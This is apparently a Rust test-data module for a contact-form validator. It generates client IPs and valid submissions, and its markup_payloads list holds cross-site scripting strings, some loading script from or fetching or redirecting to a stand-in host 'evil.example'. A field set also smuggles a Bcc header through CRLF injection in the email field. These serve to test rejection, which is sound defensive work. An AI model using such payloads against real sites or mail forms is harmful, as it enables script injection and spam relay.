// SPDX-FileCopyrightText: 2025 Hyperpolymath
// SPDX-License-Identifier: Apache-2.0

//! Test data generators for abuse simulation.

use contact_gate::validator::SubmissionRequest;
use std::net::{IpAddr, Ipv4Addr};

/// Generate a pool of client identities for testing.
pub fn generate_clients(count: usize) -> Vec<String> {
    (0..count)
        .map(|i| {
            // Use 10.x.x.x private range
            let a = ((i >> 16) & 0xFF) as u8;
            let b = ((i >> 8) & 0xFF) as u8;
            let c = (i & 0xFF) as u8;
            IpAddr::V4(Ipv4Addr::new(10, a, b, c)).to_string()
        })
        .collect()
}

/// A well-formed submission from `client` carrying `token`.
pub fn valid_submission(client: &str, token: &str, index: usize) -> SubmissionRequest {
    SubmissionRequest {
        client_identity: client.to_string(),
        token_id: token.to_string(),
        email: format!("visitor{}@example.org", index),
        subject: format!("Enquiry {}", index),
        reason: "General".to_string(),
        message: "Hello, I would like to get in touch.".to_string(),
    }
}

/// Message bodies that try to smuggle markup or script into the
/// operator's HTML notification.
pub fn markup_payloads() -> Vec<&'static str> {
    vec![
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\"><script>fetch('//evil.example')</script>",
        "<a href=\"javascript:alert(1)\">click</a>",
        "<iframe src=\"//evil.example\"></iframe>",
        "</p><script>document.location='//evil.example'</script><p>",
    ]
}

/// Field combinations that must never pass validation.
pub fn invalid_field_sets() -> Vec<(&'static str, String, &'static str, &'static str)> {
    vec![
        ("", "Hi".to_string(), "Hello", "General"),
        ("not-an-email", "Hi".to_string(), "Hello", "General"),
        ("a@b.com", "".to_string(), "Hello", "General"),
        ("a@b.com", "x".repeat(201), "Hello", "General"),
        ("a@b.com", "Hi".to_string(), "   ", "General"),
        ("a@b.com", "Hi".to_string(), "Hello", "Free Money"),
        ("a@b.com\r\nBcc: victim@example.com", "Hi".to_string(), "Hello", "General"),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generate_clients() {
        let clients = generate_clients(256);
        assert_eq!(clients.len(), 256);
        // All should be unique
        let unique: std::collections::HashSet<_> = clients.iter().collect();
        assert_eq!(unique.len(), 256);
    }

    #[test]
    fn test_markup_payloads_contain_markup() {
        assert!(markup_payloads().iter().all(|p| p.contains('<')));
    }
}
